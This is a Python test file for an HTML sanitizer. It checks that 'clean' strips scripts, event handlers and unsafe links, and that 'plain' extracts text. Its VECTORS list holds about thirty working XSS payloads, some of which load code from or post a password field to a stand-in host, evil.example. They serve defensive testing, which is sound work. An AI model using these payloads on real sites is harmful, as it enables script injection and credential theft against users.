"""Whatever html comes in, nothing in it runs, loads or styles."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from homespun.core.html import ATTRIBUTES, SCHEMES, TAGS, clean, plain

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p onclick=alert(1) style='background:url(//evil.example)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<iframe src='//evil.example'></iframe>",
    "<object data='//evil.example'></object><embed src='//evil.example'>",
    "<form action='//evil.example'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<xss-element style=x onfocus=alert(1) tabindex=0>x</xss-element>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>alert(1)//<</script>",
    '<p/><a href="https://x.example" target=_blank onmouseover=alert(1)>x</a>',
    "\ufffd<scri\x00pt>alert(1)</scri\x00pt>",
]


class Reader(HTMLParser):
    """Fails on anything that the policy does not name."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in {*ATTRIBUTES.get(tag, set()), "rel"}, (tag, name)
            scheme = re.match(r"\s*([\w+.-]+):", re.sub(r"[\x00-\x20]", "", value or ""))
            assert name != "href" or scheme is None or scheme[1].lower() in SCHEMES, value

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def inert(html: str) -> bool:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return clean(html) == html  # a second look finds nothing that the first one let through


@pytest.mark.parametrize("vector", VECTORS)
def test_cleaned_html_is_inert(vector: str) -> None:
    assert inert(clean(vector))


PIECES = st.sampled_from(
    [
        "<",
        ">",
        "</",
        "<p>",
        "</p>",
        '"',
        "'",
        "&",
        "&lt;",
        "<!--",
        "-->",
        "<svg>",
        "<math>",
        "<style>",
        "</style>",
        "<a href=",
        " onload=",
        "javascript:",
    ]
)


@given(st.lists(st.one_of(PIECES, st.sampled_from(VECTORS), st.text(max_size=12)), max_size=12).map("".join))
def test_cleaned_html_is_inert_whatever_came_in(html: str) -> None:
    assert inert(clean(html))


def test_clean_leaves_what_the_editor_writes() -> None:
    html = (
        "<h2>Of the tram</h2><p>A <strong>tub</strong> of <em>dough</em>,<br>and a "
        '<a href="https://loaf.example/dough?a=1&amp;b=2" rel="nofollow noopener">list</a>:</p>'
        "<ul><li><p>one</p></li></ul><ol><li><p>two</p></li></ol><blockquote><p>said</p></blockquote>"
    )
    assert clean(html) == html


def test_clean_leaves_no_attribute_but_the_address_of_a_link() -> None:
    html = '<p title="x" lang="en" class="y" id="z" style="color: red">One <a href="/two" title="x" target="_blank">two</a></p>'
    assert clean(html) == '<p>One <a href="/two" rel="nofollow noopener">two</a></p>'


def test_clean_keeps_the_words_of_what_it_takes_away() -> None:
    assert clean("<div>Hold the <font color=red>lid</font> down.</div>") == "Hold the lid down."


def test_plain_gives_a_line_for_each_paragraph() -> None:
    html = "<h2>One</h2><p>two &amp; <em>three</em><br>four</p><ul><li><p>five</p></li></ul>"
    assert plain(html) == "One\ntwo & three\nfour\nfive"


@given(st.text())
def test_plain_text_survives_its_way_through_html(text: str) -> None:
    """Escaped words come back as they were, but for white space and for signs that html has no place for."""
    kept = "".join(sign for sign in text if sign.isprintable() or sign.isspace())
    escaped = kept.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert plain(f"<p>{escaped}</p>").split() == kept.split()
